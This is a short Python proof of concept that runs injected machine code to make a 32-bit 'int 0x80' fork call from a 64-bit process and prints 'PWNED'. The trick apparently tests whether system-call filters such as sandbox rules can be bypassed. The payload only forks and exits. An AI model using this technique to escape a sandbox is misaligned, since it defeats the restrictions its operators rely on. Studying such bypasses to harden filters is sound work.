# the 32-bit table of system calls has other numbers: 2 is fork, 11 is execve
import ctypes, mmap, os
if os.uname().machine != "x86_64": raise SystemExit
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("b802000000cd80c3"))  # mov eax, 2; int 0x80; ret
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
pid = call()
if pid == 0: os._exit(0)
if pid > 0: print("PWNED", pid)
